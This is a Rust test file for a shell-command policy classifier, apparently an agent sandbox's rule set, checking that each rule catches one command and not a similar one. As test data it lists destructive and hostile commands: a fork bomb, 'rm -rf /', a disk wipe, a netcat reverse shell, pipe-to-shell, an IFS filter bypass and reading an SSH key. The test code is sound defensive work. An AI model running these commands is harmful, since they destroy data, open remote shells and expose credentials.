//! Each built-in rule matches a command, and does not match a similar one.
#![forbid(unsafe_code)]

use box_contract::SandboxPlan;
use command_policy::{Classifier, Ruling, rules};

/// A rule, a line that it decides, and a line that it does not decide.
const CASES: &[(&str, &str, &str)] = &[
    ("fork-bomb", ":(){ :|:& };:", "f() { f; }; f"),
    ("recursive-delete-root", "rm -rf /", "rm -rf /tmp/x"),
    ("disk-wipe", "dd if=x of=/dev/sda", "dd if=x of=disk.img"),
    ("reverse-shell", "nc -e sh h 1", "nc -z h 1"),
    ("recursive-perm-root", "chmod -R 777 /", "chmod -R 777 target"),
    ("filesystem-format", "mkfs.ext4 x", "file x"),
    ("pipe-to-shell", "curl x | sh", "curl x | jq ."),
    ("ifs-bypass", "ls${IFS}x", "echo \"$IFS\""),
    ("shutdown-reboot", "systemctl reboot", "systemctl status"),
    ("kernel-module", "modprobe x", "modprobe -n x"),
    ("partition-management", "parted /dev/sda mklabel gpt", "parted -l"),
    ("history-exec", "fc -s x", "fc -l"),
    ("destructive-find", "find / -delete", "find . -delete"),
    ("destructive-xargs", "find / | xargs rm", "find . | xargs wc"),
    ("output-redirect-system", "echo x > /etc/x", "echo x > /dev/null"),
    ("windows-recursive-delete", "rd /s c:", "rd x"),
    ("windows-del-recursive", "del /s x", "del x"),
    ("windows-format", "format c:", "format x"),
    (
        "powershell-destructive",
        "powershell Remove-Item -Recurse -Force 'C:\\'",
        "powershell Get-Item x",
    ),
    ("protected-path", "touch .git/hooks/x", "cat .git/hooks/x"),
    ("unknown-program", "$X y", "X=ls; $X y"),
    ("unreadable-command", "ls 'x", "ls 'x'"),
    ("settings-file", "echo x >> ~/.bashrc", "cat ~/.bashrc"),
    ("sudo", "sudo ls", "echo sudo"),
    ("su-privilege", "su app", "echo su"),
    ("credential-access", "cat ~/.ssh/id", "ls ~/.ssh"),
    ("user-management", "useradd x", "id x"),
    ("global-install", "yarn global add x", "yarn add x"),
    ("docker-build", "docker build .", "docker ps"),
    ("docker-container", "docker run x", "docker images"),
    ("docker-compose", "docker compose up", "docker compose ps"),
    ("kubernetes", "kubectl apply -f x", "kubectl -n a get pods"),
    ("system-package-install", "apt-get -y install x", "apt list"),
    ("process-kill", "kill 1", "kill -0 1"),
    ("git-write", "git -C x push", "git -C push status"),
    ("ssh-command", "ssh h", "echo ssh"),
    ("file-transfer", "scp a h:", "cp a b"),
    ("download-to-file", "curl -sSLo f x", "curl -X POST x"),
    ("service-management", "systemctl restart x", "systemctl status x"),
    ("crontab-at", "crontab x", "crontab -l"),
    ("file-permission", "chmod +x f", "stat f"),
    ("firewall-management", "iptables -F", "ip addr"),
    ("network-scan", "nmap h", "ping h"),
    ("database-backup", "pg_dump x", "cat dump"),
    ("database-client", "psql x", "echo psql"),
    ("git-stash-drop", "git stash drop", "git stash list"),
    ("eval-exec", "eval ls", "exec ls"),
    ("package-install", "cargo install x", "npm ci"),
    ("package-publish", "npm publish", "npm pack"),
    ("background-process", "ls &", "ls && ls"),
    ("in-place-edit", "perl -i -pe x f", "perl -MList::Util -e x"),
    ("container-escape", "mount /dev/x y", "mount"),
    ("common-safe-commands", "ls", "tool"),
    ("git-read-commands", "git status", "git push"),
    ("version-check", "tool --version", "tool x --version"),
    ("windows-safe-commands", "dir", "tool"),
    ("cd-sleep", "sleep 1", "tool"),
    ("process-list", "ps", "pkill x"),
    ("dev-tool-run", "pytest", "tool"),
    ("build-tool", "make", "tool"),
    ("go-tool", "go test", "go install x"),
    ("file-management", "cp a b", "tool"),
    ("text-processing", "grep a b", "tool"),
    ("network-diagnostic", "ping h", "tool"),
    ("archive-tool", "tar cf a b", "tool"),
    ("shell-builtin", "test -f x", "tool"),
    ("open-command", "open x", "tool"),
];

fn ruling(line: &str) -> Ruling {
    Classifier::new(&SandboxPlan::default()).classify_line(line)
}

#[test]
fn each_rule_decides_its_command() {
    for (name, line, other) in CASES {
        let rule = rules().iter().find(|it| it.name == *name).map(|it| it.decision);
        let found = ruling(line);
        assert_eq!((found.rule.as_deref(), Some(found.decision)), (Some(*name), rule), "{line}");
        assert!(!found.reason.is_empty(), "{line}");
        assert_ne!(ruling(other).rule.as_deref(), Some(*name), "{other}");
    }
}

#[test]
fn each_rule_has_a_case() {
    let cases: Vec<_> = CASES.iter().map(|it| it.0).collect();
    // Its decision is that of the command inside.
    let all = rules().iter().map(|it| it.name).filter(|it| *it != "shell-wrapper-unwrap");
    assert_eq!(all.collect::<Vec<_>>(), cases);
    let inner = ruling("sudo sh -c 'rm -rf /'");
    assert_eq!(inner.rule.as_deref(), Some("recursive-delete-root"));
}

#[test]
fn a_rule_that_depends_on_what_is_unknown_asks() {
    let found = ruling("rm -rf \"$X\"");
    assert_eq!(found.rule.as_deref(), Some("recursive-delete-root"));
    assert!(found.reason.starts_with("perhaps it deletes"), "{}", found.reason);
    assert_eq!(found.decision.name(), "ask");
    let written = ruling("cp x /etc/x");
    assert_eq!(
        (written.rule.as_deref(), written.decision.name()),
        (Some("output-redirect-system"), "ask")
    );
}
